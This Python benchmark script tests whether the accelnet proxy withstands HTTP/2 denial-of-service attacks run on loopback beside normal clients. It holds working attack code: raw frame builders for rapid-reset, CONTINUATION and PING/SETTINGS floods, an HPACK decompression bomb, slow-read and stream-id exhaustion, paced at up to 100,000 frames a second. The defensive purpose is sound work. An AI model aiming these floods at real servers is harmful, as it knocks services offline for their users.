#!/usr/bin/python3
"""bench/h2attack.py: what an HTTP/2 attacker costs everyone else (issue 29's must-show: "a
client opening and resetting 100,000 streams/s on one connection does not slow other clients'
p99 by more than 10% and costs the backends nothing; each other defence shown the same way").
Never a test: nothing here gates CI.

One accelnet proxy (one worker, on the server CPU) in front of an nginx origin (a 2 KiB file,
its access log counted). The victims: `wrk` over 32 keep-alive HTTP/1.1 connections for S
seconds (`--latency`: p50 and p99). The attacker (this file with --attacker, one process) speaks
HTTP/2 with prior knowledge, one connection at a time, reconnecting whenever the proxy ends
one, and sends at a paced rate:

  rapid-reset   HEADERS (END_STREAM) and RST_STREAM(CANCEL) for a new stream, RATE a second
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames, RATE a second
  ping          PING frames, RATE a second
  settings      empty SETTINGS frames, RATE a second
  hpack-bomb    a 4,000-byte header put in the HPACK table and named 1,000 times in the same
                block, then RATE / 10 streams a second, each naming it 1,000 times (4 MB
                decoded from 1 KB sent)
  slow-read     SETTINGS_INITIAL_WINDOW_SIZE 0 (no response byte may be sent), then RATE / 100
                GETs of / a second that are never read: each holds a backend request and its
                answer until timeouts.send_ms (these do reach the origin: they are requests)
  stream-ids    RATE / 100 GETs of / a second with stream ids from 2,147,481,547 up, past the
                proxy's GOAWAY point near the end of the id space (50 streams on): its GOAWAY
                and a reconnection every ~50 streams (these reach the origin: requests)

Each round runs the victims twice: once beside the attacker sending the same bytes to a sink
(a socket here that reads and drops them: the client side's CPU is the same, the proxy sees
nothing) and once beside the attacker sending them to the proxy, the order turned each round.
The load generators share the load CPU with the origin and the sink, the proxy has the server
CPU to itself. Reported per mode, median over rounds: the victims' requests/s and latency p50
and p99 with and without the attack and their ratio, the attacker's requests the origin served
(its path is /, the victims' /small: what the attack cost the backend), the attacker's connections and frames, and the
proxy's `accelnet_http2_defences_total` counts.

Usage: bench/run --only h2attack [--modes rapid-reset,continuation,ping,settings,...]
                                 [--rounds 3] [--seconds 8] [--rate 100000]
                                 [--accept-rate 20/s] [--accelnet BIN] [--json OUT]
"""

import argparse
import datetime
import json
import os
import re
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import bench  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# a GET of / with only the static table (no dynamic entries: every copy is the same bytes):
# :method GET, :scheme http, :path /, :authority "bench" (literal, not indexed, name 1)
BLOCK = b"\x82\x86\x84\x01\x05bench"
BATCH_S = 0.01  # the attacker sends a batch every 10 ms


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


class Attacker:
    """The frames of one mode, made per batch (stream ids rise on a connection)."""

    def __init__(self, mode):
        self.mode, self.sid, self.frames = mode, 1, 0

    def opening(self):
        self.sid = 1
        start = PREFACE + frame(4, 0, 0)  # our SETTINGS
        if self.mode == "continuation":  # the header block that never ends
            start += frame(1, 0x1, 1, BLOCK[:4])  # HEADERS, END_STREAM, no END_HEADERS
        if self.mode == "slow-read":  # SETTINGS_INITIAL_WINDOW_SIZE = 0: no DATA to us
            start = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
        if self.mode == "stream-ids":
            self.sid = 2147481547
        if self.mode == "hpack-bomb":  # stream 1 puts x-bomb: b...b in the table (index 62)
            big = b"\x40\x06x-bomb\x7f\xa1\x1e"  # a new name, its value 4,000 bytes long
            start += frame(1, 0x5, 1, BLOCK + big + b"b" * 4000 + b"\xbe" * 1000)
            self.sid = 3
        return start

    def batch(self, n):
        """<n> more frames (streams); counted by the caller once sent."""
        out = []
        for _ in range(n):
            if self.mode == "rapid-reset":
                out.append(frame(1, 0x5, self.sid, BLOCK))  # HEADERS, END_STREAM|END_HEADERS
                out.append(frame(3, 0, self.sid, struct.pack(">I", 8)))  # RST_STREAM CANCEL
                self.sid += 2
            elif self.mode == "continuation":
                out.append(frame(9, 0, 1, b"\x40\x03x-a\x03aaa"))  # CONTINUATION, more headers
            elif self.mode == "ping":
                out.append(frame(6, 0, 0, b"12345678"))
            elif self.mode == "settings":
                out.append(frame(4, 0, 0))
            elif self.mode == "hpack-bomb":
                out.append(frame(1, 0x5, self.sid, BLOCK + b"\xbe" * 1000))
                self.sid += 2
            elif self.mode in ("slow-read", "stream-ids"):
                out.append(frame(1, 0x5, self.sid, BLOCK))  # a GET (slow-read: never read)
                self.sid += 2
        return b"".join(out)


def attack(target, mode, rate, seconds, source):
    """The attacker process: send <mode> at <rate> frames (streams) a second to <target> from
    the address <source> for <seconds>, reconnecting when the other end closes; print what it
    did as JSON (frames counted once written to the socket)."""
    host, port = target.rsplit(":", 1)
    a, conns, sent, closed = Attacker(mode), 0, 0, 0
    per_s = rate / 10 if mode == "hpack-bomb" else rate / 100 if mode in (
        "slow-read", "stream-ids") else rate
    per_batch = max(1, int(per_s * BATCH_S))
    end = time.monotonic() + seconds
    s, due = None, time.monotonic()
    while time.monotonic() < end:
        try:
            if s is None:
                s = socket.create_connection((host, int(port)), source_address=(source, 0))
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                conns += 1
                s.sendall(a.opening())
            data = a.batch(per_batch)
            s.sendall(data)
            sent += len(data)
            a.frames += per_batch
            s.setblocking(False)  # drain what came back (SETTINGS, acks, GOAWAY)
            try:
                while True:
                    got = s.recv(65536)
                    if not got:
                        raise ConnectionResetError
            except BlockingIOError:
                pass
            s.setblocking(True)
        except OSError:
            if s is not None:
                s.close()
                closed += 1
            s = None
        due += BATCH_S
        pause = due - time.monotonic()
        if pause > 0:
            time.sleep(pause)
        else:
            due = time.monotonic()  # behind: no catching up in a burst
    print(json.dumps({"mode": mode, "frames": a.frames, "bytes": sent, "connections": conns,
                      "closed_by_peer": closed, "seconds": seconds}), flush=True)


class Sink:
    """A socket that takes whatever is sent to it and drops it (the baseline's attacker)."""

    def __init__(self):
        self.s = socket.socket()
        self.s.bind(("127.0.0.1", 0))
        self.s.listen(16)
        self.port = self.s.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            c, _ = self.s.accept()
            threading.Thread(target=self.drop, args=(c,), daemon=True).start()

    @staticmethod
    def drop(c):
        with c:
            while c.recv(1 << 20):
                pass


def start_accelnet(run, origin, accept_rate, binary):
    """accelnet as bench.start_accelnet has it (one worker, plain listener: HTTP/1.1 and h2c),
    with an admin listener and, given <accept_rate>, limits.accept_rate_per_ip."""
    port, admin = bench.free_port(), bench.free_port()
    limits = "max_connections: 200000" + (f", accept_rate_per_ip: {accept_rate}"
                                          if accept_rate else "")
    cfg = (f"workers: 1\nlisten: [127.0.0.1:{port}]\nadmin: {{address: 127.0.0.1:{admin}}}\n"
           "timeouts: {first_byte_ms: 300000, between_bytes_ms: 300000, idle_ms: 300000}\n"
           f"limits: {{{limits}}}\n"
           f"pools:\n  - name: b\n    backends:\n      - {{address: 127.0.0.1:{origin}}}\n")
    p = run.start([binary or bench.ACCELNET, "proxy", "-c", run.write(f"accelnet-{port}.yaml", cfg),
                   "--log-level", "error"], port, name="accelnet")
    p.port, p.admin = port, admin
    return p


def lines(path, what=b""):
    """Lines of the origin's access log (containing <what>)."""
    with open(path, "rb") as f:
        return sum(1 for line in f if what in line)


def defences(admin):
    text = urllib.request.urlopen(f"http://127.0.0.1:{admin}/metrics", timeout=10).read().decode()
    out = {}
    for m in re.finditer(r'^accelnet_http2_defences_total\{defence="([^"]+)"\} (\S+)$', text, re.M):
        out[m[1]] = float(m[2])
    return out


def victims(port, seconds):
    out = subprocess.run(["taskset", "-c", bench.LOAD_CPU, "wrk", "-t1", "-c32",
                          f"-d{seconds}s", "--latency", f"http://127.0.0.1:{port}/small"],
                         capture_output=True, text=True, timeout=seconds + 60).stdout

    def ms(label):
        m = re.search(rf"^\s+{label}%\s+([\d.]+)(us|ms|s)\s*$", out, re.M)
        v = float(m[1])
        return {"us": v / 1000, "ms": v, "s": v * 1000}[m[2]]
    return {"requests": int(re.search(r"(\d+) requests in", out)[1]),
            "rps": float(re.search(r"Requests/sec:\s+([\d.]+)", out)[1]),
            "p50_ms": ms("50"), "p99_ms": ms("99")}


def phase(run, px, origin_log, mode, rate, seconds, to_port, source):
    before_lines, before_def = lines(origin_log, b'"GET / '), defences(px.admin)
    g = subprocess.Popen(["taskset", "-c", bench.LOAD_CPU, sys.executable, os.path.abspath(__file__),
                          "--attacker", f"127.0.0.1:{to_port}", "--mode", mode, "--rate",
                          str(rate), "--seconds", str(seconds + 2), "--source", source],
                         stdout=subprocess.PIPE,
                         text=True)
    run.procs.append(g)
    time.sleep(1)  # the attack under way before the victims start
    v = victims(px.port, seconds)
    att = json.loads(g.stdout.readline())
    g.wait(30)
    time.sleep(0.5)  # the origin's log written
    after = defences(px.admin)
    v["leaked"] = lines(origin_log, b'"GET / ') - before_lines  # the victims ask for /small
    v["attacker"] = att
    v["defences"] = {k: after[k] - before_def.get(k, 0) for k in after
                     if after[k] != before_def.get(k, 0)}
    return v


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--attacker", metavar="HOST:PORT", help=argparse.SUPPRESS)
    ap.add_argument("--mode", help=argparse.SUPPRESS)
    ap.add_argument("--source", default="127.0.0.2", help="the attacker's address (another "
                    "loopback address than the victims')")
    ap.add_argument("--accept-rate", default="20/s", help="the proxy's limits.accept_rate_per_ip "
                    "in the second configuration (the first has none)")
    ap.add_argument("--modes", default="rapid-reset,continuation,ping,settings")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--seconds", type=int, default=8)
    ap.add_argument("--rate", type=int, default=100000, help="frames (streams) a second")
    ap.add_argument("--accelnet", metavar="BIN", help="another accelnet build (default build/)")
    ap.add_argument("--json")
    a = ap.parse_args()
    if a.attacker:
        attack(a.attacker, a.mode, a.rate, a.seconds, a.source)
        return
    bench.raise_nofile()
    run = bench.Run()
    res = {"date": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H-%M-%SZ"),
           "versions": bench.versions(), "rounds": a.rounds, "seconds": a.seconds,
           "rate": a.rate, "load_avg": os.getloadavg()[0], "results": {}}
    try:
        origin_log = os.path.join(run.dir, "origin-access.log")
        origin = bench.start_small_origin(run, origin_log, cpu=bench.LOAD_CPU)
        sink = Sink()
        for conf in ["defaults", f"accept_rate_per_ip {a.accept_rate}"]:
            px = start_accelnet(run, origin, a.accept_rate if conf != "defaults" else None,
                                a.accelnet)
            port = px.port
            victims(port, 1)  # warm
            for mode in a.modes.split(","):
                rounds = []
                for r in range(a.rounds):
                    order = ["sink", "proxy"] if r % 2 == 0 else ["proxy", "sink"]
                    got = {}
                    for where in order:
                        got[where] = phase(run, px, origin_log, mode, a.rate, a.seconds,
                                           sink.port if where == "sink" else port, a.source)
                    rounds.append(got)
                res["results"][f"{conf}: {mode}"] = rounds
            run.stop(px)
    finally:
        run.cleanup()
    rows = []
    for mode, rounds in res["results"].items():
        med = lambda where, k: statistics.median(g[where][k] for g in rounds)  # noqa: E731
        ratio = lambda k: statistics.median(g["proxy"][k] / g["sink"][k] for g in rounds)  # noqa: E731
        att = [g["proxy"]["attacker"] for g in rounds]
        fps = statistics.median(x["frames"] / x["seconds"] for x in att)
        conns = statistics.median(x["connections"] for x in att)
        dfs = {}
        for g in rounds:
            for k, v in g["proxy"]["defences"].items():
                dfs[k] = dfs.get(k, 0) + v
        rows.append([mode, f"{fps:,.0f}/s over {conns:,.0f} conns",
                     f"{med('sink', 'rps'):,.0f} / {med('proxy', 'rps'):,.0f} ({ratio('rps'):.2f}x)",
                     f"{med('sink', 'p50_ms'):.2f} / {med('proxy', 'p50_ms'):.2f}",
                     f"{med('sink', 'p99_ms'):.2f} / {med('proxy', 'p99_ms'):.2f} ({ratio('p99_ms'):.2f}x)",
                     f"{max(g['proxy']['leaked'] for g in rounds)}",
                     ", ".join(f"{k} {v:,.0f}" for k, v in sorted(dfs.items())) or "-"])
    text = "\n".join([
        f"# HTTP/2 attacks beside victims {res['date']} (load average {res['load_avg']:.1f} "
        f"before; {a.rounds} rounds of {a.seconds} s, median)", "",
        bench.table(["attack", "attacker sent", "victims req/s without / with",
                     "p50 ms without / with", "p99 ms without / with",
                     "attacker's requests the origin served (most in a round)",
                     "defences counted (all rounds)"], rows), ""])
    bench.emit(text, res, a.json)


if __name__ == "__main__":
    main()
